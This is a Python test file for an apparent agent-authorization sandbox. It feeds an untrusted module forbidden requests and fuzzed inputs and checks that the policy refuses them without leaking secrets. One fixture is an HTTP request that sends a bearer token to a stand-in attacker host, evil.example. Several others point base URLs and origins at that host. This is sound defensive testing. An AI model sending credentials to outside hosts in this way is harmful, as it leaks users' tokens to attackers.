"""Modules that are anybody's: what they ask for that none may have is not done."""

from __future__ import annotations

import random
import re
from typing import Any

import pytest
from backend import BASE, CREDENTIALS, TOKEN
from hosts import policy_after
from settings import Setting
from test_instances import instances
from vectors import VECTORS, from_json, vectors

from agentassert import AgentAssert, AgentAssertError, Manager, MemoryStore, StoreContext
from agentassert.answer import is_map
from agentassert.base_url import path_below
from agentassert.policy import FlowPolicy
from agentassert.refusal import error_code
from agentassert.shapes import is_list


class Liar(AgentAssert):
    """A core that answers some methods as it is told, one after the other, and the last answer for good."""

    def __init__(self, core: AgentAssert, answers: dict[str, list[Any]]) -> None:
        super().__init__(core._engine)
        self._answers = answers

    def call(self, method: str, params: Any) -> dict[str, Any]:
        answers = self._answers.get(method)
        if not answers:
            return super().call(method, params)
        answer: dict[str, Any] = answers.pop(0) if len(answers) > 1 else answers[0]
        return answer


class NotingStore(MemoryStore):
    """A store that takes note of what it is asked for."""

    def __init__(self) -> None:
        super().__init__()
        self.asked: list[str] = []

    def load(self, slot: str, context: StoreContext) -> bytes | None:
        self.asked.append(f"load {slot}")
        return super().load(slot, context)

    def save(self, slot: str, record: bytes, context: StoreContext) -> None:
        self.asked.append(f"save {slot}")
        super().save(slot, record, context)


def wanting(*effects: Any) -> dict[str, list[Any]]:
    """Returns the answers of a module that asks for these effects."""
    return {"flow.step": [{"state": b"state", "effect": effect} for effect in effects]}


NOW = 1_764_000_000
LOCK = {"type": "lock", "slot": "identity"}
BEARER = {
    "mode": "bearer",
    "reason": "registration-failed",
    "header": f"Bearer {TOKEN}",
    "account_id": "acct-1",
    "valid_until": NOW,
}

VIOLATIONS: list[tuple[str, list[Any]]] = [
    ("no effect", [None]),
    ("an effect that is no map", ["load"]),
    ("an effect that there is not", [{"type": "exec", "slot": "identity"}]),
    ("a slot of another's", [{"type": "load", "slot": "thread/other"}]),
    ("a slot that is no text", [{"type": "load", "slot": 5}]),
    ("to save the identity", [{"type": "save", "slot": "identity", "record": b"{}"}]),
    ("to remove the identity", [{"type": "swap", "slot": "identity", "expected": b"{}"}]),
    ("the entropy of a kilobyte", [{"type": "entropy", "size": 1024}]),
    ("a pause", [{"type": "wait", "wait_ms": 5}]),
    ("a lock twice", [LOCK, LOCK]),
    ("to give back what it has not", [{"type": "unlock", "slot": "identity"}]),
    (
        "a request to elsewhere",
        [
            LOCK,
            {
                "type": "http",
                "method": "GET",
                "url": "http://evil.example/authenticate_app_v2",
                "headers": [{"name": "authorization", "value": f"Bearer {TOKEN}"}],
                "timeout_ms": 1000,
                "size_limit": 1000,
            },
        ],
    ),
    ("another's token", [{"type": "done", "authorization": {**BEARER, "header": "Bearer secret-other"}}]),
    ("another account", [{"type": "done", "authorization": {**BEARER, "account_id": "secret-other"}}]),
    ("another second", [{"type": "done", "authorization": {**BEARER, "valid_until": NOW + 1}}]),
    ("a mode that there is not", [{"type": "done", "authorization": {**BEARER, "mode": "secret-x"}}]),
    (
        "an origin",
        [{"type": "done", "authorization": {**BEARER, "responses_origin": "https://evil.example"}}],
    ),
    (
        "an assertion that is none",
        [
            {
                "type": "done",
                "authorization": {
                    **BEARER,
                    "mode": "agent-assertion",
                    "reason": "background-task",
                    "header": "AgentAssertion secret-x",
                    "agent_runtime_id": "a",
                    "task_id": "t",
                },
            }
        ],
    ),
]


@pytest.mark.parametrize("effects", [pytest.param(v[1], id=v[0]) for v in VIOLATIONS])
def test_what_none_may_have_is_refused(setting: Setting, effects: list[Any]) -> None:
    store = NotingStore()
    manager = setting.open(core=Liar(setting.core, wanting(*effects)), store=store)
    with pytest.raises(AgentAssertError) as caught:
        manager.authorization("models")
    assert caught.value.code == "policy_violation"
    assert "secret-" not in str(caught.value)
    assert setting.backend.seen == []
    assert store.asked == []
    # It has given its locks back.
    assert setting.open(store=store).authorization("models").mode == "agent-assertion"


def test_a_flow_that_does_not_end_is_ended(setting: Setting) -> None:
    store = NotingStore()
    core = Liar(setting.core, wanting({"type": "load", "slot": "identity"}))
    with pytest.raises(AgentAssertError) as caught:
        setting.open(core=core, store=store).authorization("models")
    assert caught.value.code == "sandbox_failed"
    assert len(store.asked) == 96


def test_a_flow_that_does_not_end_under_a_lock_is_ended(setting: Setting) -> None:
    store = NotingStore()
    core = Liar(setting.core, wanting(LOCK, {"type": "load", "slot": "identity"}))
    manager = setting.open(core=core, store=store)
    manager._host.held_seconds = 0
    with pytest.raises(AgentAssertError) as caught:
        manager.authorization("models")
    assert caught.value.code == "sandbox_failed"
    assert store.asked == []


@pytest.mark.parametrize(
    "base",
    [
        None,
        5,
        "http://evil.example/backend-api",
        "http://agent.chatgpt.com:81/backend-api",
        f"{BASE}@evil.example",
    ],
)
def test_another_base_url_is_refused(setting: Setting, base: Any) -> None:
    core = Liar(setting.core, {"base_url.normalize": [{"base_url": base}]})
    with pytest.raises(AgentAssertError) as caught:
        setting.open(core=core)
    assert caught.value.code == "policy_violation"


def test_what_a_url_is_no_module_says(setting: Setting) -> None:
    inside = {"inside": True, "surface": "bootstrap", "scope": "bearer-only"}
    core = Liar(
        setting.core, {"surface.locate": [inside], "surface.match": [inside], "surface.lookup": [inside]}
    )
    manager = setting.open(core=core)
    assert not manager.locate("http://example.org/backend-api/x").inside
    assert manager.locate(f"{BASE}/codex/models").surface == "models"
    assert manager.authorization("models").mode == "agent-assertion"
    assert manager.apps_mcp_server().url == f"{BASE}/wham/apps"


def test_another_assertion_is_the_last_ones(setting: Setting) -> None:
    manager = setting.open(**instances())
    first = manager.authorization("models")
    other = {
        "mode": "dual-header",
        "reason": "runtime-instance",
        "header": first.header,
        "agent_assertion": first.agent_assertion,
        "account_id": "acct-1",
        "runtime_agent_instance": "instance-1",
        "valid_until": NOW,
    }
    for effect in ({"type": "done", "authorization": other}, {"type": "load", "slot": "identity"}, None):
        manager._host.core = Liar(setting.core, wanting(effect))
        with pytest.raises(AgentAssertError) as caught:
            manager.authorization("models")
        assert caught.value.code in ("policy_violation", "sandbox_failed")
        assert first.agent_assertion not in str(caught.value)


def test_a_module_that_traps(setting: Setting) -> None:
    pytest.importorskip("wasmtime")
    trap = bytes.fromhex((VECTORS / "hosts" / "trap.hex").read_text())
    with AgentAssert.load(engine="wasmtime", module=trap) as core:
        with pytest.raises(AgentAssertError) as caught:
            Manager(core=core, base_url=BASE, credentials=CREDENTIALS)
        assert caught.value.code == "sandbox_failed"
        manager = setting.open()
        manager._host.core = core
        with pytest.raises(AgentAssertError) as caught:
            manager.authorization("models")
        assert caught.value.code == "sandbox_failed"


SUPPORTED = re.compile(r"(https://([a-z0-9-]+\.)*(chatgpt\.com|openai\.com))?", re.IGNORECASE)

ODD: list[Any] = [
    *("", "identity", "secret-text", "../x", "thread/thread-2", "Bearer secret-token", "\0", "\ud800", "é"),
    *(0, -1, 1, 10**9, 2**53, 2**62, 0.5, float("nan"), True, False, None, [], {}, [[]], ["secret-a"]),
    *(b"", b'{"tokens":{"access_token":"evil"}}', bytearray(b"x"), object()),
]


def values_of(message: Any) -> list[Any]:
    """Returns all values in a message."""
    if is_map(message):
        return [message, *(value for member in message.values() for value in values_of(member))]
    if is_list(message):
        return [message, *(value for element in message for value in values_of(element))]
    return [message]


def mutated(value: Any, chance: random.Random, others: list[Any]) -> Any:
    """Returns a message with some of it changed, to what a module could send."""
    kind = chance.randrange(8)
    if kind == 0:
        return chance.choice(ODD)
    if kind == 1:
        return chance.choice(others)
    if isinstance(value, str) and value:
        at = chance.randrange(len(value))
        return value[:at] + chr(33 + chance.randrange(90)) + value[at + chance.randrange(3) :]
    if type(value) is int:
        return value + chance.randrange(3) - 1
    if isinstance(value, bytes) and value:
        at = chance.randrange(len(value))
        return value[:at] + bytes([chance.randrange(256)]) + value[at + chance.randrange(3) :]
    if is_list(value) and value:
        at = chance.randrange(len(value))
        return [mutated(e, chance, others) if i == at else e for i, e in enumerate(value)]
    if is_map(value) and value:
        name = chance.choice(list(value))
        return {**value, name: mutated(value[name], chance, others)}
    return chance.choice(ODD)


def asked(policy: FlowPolicy, effect: Any, now: int) -> tuple[Any, AgentAssertError | None]:
    """Returns an effect that is let pass, or the error."""
    try:
        return policy.effect(effect, now), None
    except AgentAssertError as error:
        return None, error


def test_whatever_a_module_asks_for_what_passes_is_a_flows() -> None:
    questions = [from_json(vector["params"]) for vector in vectors("hosts/effects")]
    others = [value for question in questions for value in values_of(question["effect"])]
    chance = random.Random(1)
    passed = 0
    for _ in range(20_000):
        question = chance.choice(questions)
        config, credentials = question["config"], question["credentials"]
        policy = policy_after(question)
        taken, problem = asked(policy, mutated(question["effect"], chance, others), question["now"])
        if problem is not None:
            assert problem.code == "policy_violation"
            assert "secret-" not in problem.message
            continue
        passed += 1
        bearer = f"Bearer {credentials.get('access_token', '')}"
        if taken["type"] == "done":
            answer = taken["authorization"]
            assert answer["header"] in ("", bearer) or re.fullmatch(
                r"AgentAssertion [\w.-]+", answer["header"]
            )
            assert re.fullmatch(r"(1(\.[\w-]+){3})?", answer["agent_assertion"])
            assert answer["valid_until"] == question["now"]
            assert re.fullmatch(
                r"(https://([a-z0-9-]+\.)*(chatgpt\.com|openai\.com))?",
                answer["responses_origin"],
                re.IGNORECASE,
            )
            is_routed = config.get("workspace_routing") is True
            assert is_routed or answer["responses_origin"] == answer["account_routing_override"] == ""
            continue
        assert config["agent_identity"] or config.get("workspace_routing")
        if "slot" in taken:
            thread = f"thread/{question.get('thread_id', '')}"
            slots = {"identity", "backoff", "backend", "set-aside", "instance", thread}
            assert taken["slot"] in slots | ({"workspace"} if config.get("workspace_routing") else set())
        if taken["type"] == "http":
            # Those that are found out belong to a base URL, as the vectors of flows have it.
            registrar = config.get("auth_api_url", "https://auth.")
            assert taken["url"].startswith((config["base_url"], registrar))
            is_question = config.get("profile") == "instances" and taken["url"].endswith(
                "/wham/accounts/check"
            )
            for header in taken["headers"]:
                is_assertion = re.fullmatch(r"AgentAssertion 1(\.[\w-]+){3}", header["value"])
                is_carried = header["value"] == bearer or (is_question and is_assertion)
                assert header["name"] != "authorization" or is_carried
            assert taken["timeout_ms"] <= 30_000
            assert taken["size_limit"] <= 65_536
            assert len(taken.get("body", b"")) <= 81_920
    assert passed > 200, f"{passed} have passed"


def test_no_text_is_too_odd_for_a_parser() -> None:
    chance = random.Random(2)
    pieces = [
        "https://",
        "chatgpt.com",
        "/backend-api",
        "..",
        "%2e",
        "%25",
        "/",
        "\\",
        "@",
        ":443",
        "[::1]",
        "\ud800",
        "?",
        "#",
        ";",
        "\0",
    ]
    base = "https://chatgpt.com/backend-api"
    for _ in range(20_000):
        url = "".join(chance.choice(pieces) for _ in range(chance.randrange(8)))
        below = path_below(base, url)
        assert below is None or url.startswith((base, "https://chatgpt.com:443/backend-api"))
        path_below(url, base)
        body = bytes(chance.randrange(32, 127) for _ in range(chance.randrange(20)))
        assert error_code(b'{"error":{"code":' + body) is None or body.endswith(b"}")
